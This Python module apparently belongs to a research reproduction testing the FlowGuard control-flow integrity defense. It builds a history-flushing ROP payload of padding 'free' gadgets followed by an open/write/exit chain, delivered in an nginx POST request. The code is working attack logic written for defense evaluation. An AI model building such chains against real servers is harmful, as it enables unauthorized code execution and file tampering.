"""History-flushing attack (Carlini & Wagner, §7.1.1).

Pads the chain with dozens of "NOP-like" whole-function gadgets
(``free`` returns immediately) before the termination gadget, pushing
the *initial* hijack more than ``pkt_count`` TIP packets into the past.
This defeats small-window heuristics (kBouncer's 16-entry LBR), but not
FlowGuard: each flushing hop is itself a return to a function entry —
an edge outside the ITC-CFG — so the recent window still contains
violations.  Flushing *within* the graph would require 30+ NOP gadgets
chained along high-credit edges, which the training-derived labels make
"significantly more difficult than chaining arbitrary and CFG-agnostic
gadgets".
"""

from __future__ import annotations

from repro.attacks.gadgets import find_gadgets
from repro.attacks.recon import ReconReport
from repro.attacks.rop import ATTACK_DATA, _p64, build_filler, frame_glue
from repro.osmodel.syscalls import O_CREAT, O_WRONLY


def build_flushing_payload(
    recon: ReconReport,
    conn_fd: int = 4,
    nop_gadgets: int = 40,
) -> bytes:
    gadgets = find_gadgets(recon.image)
    setcontext = gadgets.functions["setcontext"]
    free_fn = gadgets.functions["free"]
    open_fn = gadgets.functions["open"]
    write_fn = gadgets.functions["write"]
    exit_fn = gadgets.functions["exit"]

    filler, path_addr, data_addr = build_filler(recon.body_addr)
    flush = b"".join(_p64(free_fn) for _ in range(nop_gadgets))
    chain = b"".join(
        [
            _p64(setcontext),
            _p64(path_addr),
            _p64(O_CREAT | O_WRONLY),
            _p64(0),
            _p64(0),
            _p64(open_fn),
            _p64(setcontext),
            _p64(recon.next_open_fd),
            _p64(data_addr),
            _p64(len(ATTACK_DATA)),
            _p64(0),
            _p64(write_fn),
            _p64(exit_fn),
        ]
    )
    return filler + frame_glue(recon, conn_fd) + flush + chain


def build_flushing_request(
    recon: ReconReport, conn_fd: int = 4, nop_gadgets: int = 40
) -> bytes:
    from repro.workloads.servers import nginx_request

    return nginx_request(
        "/x", "POST",
        build_flushing_payload(recon, conn_fd, nop_gadgets),
    )
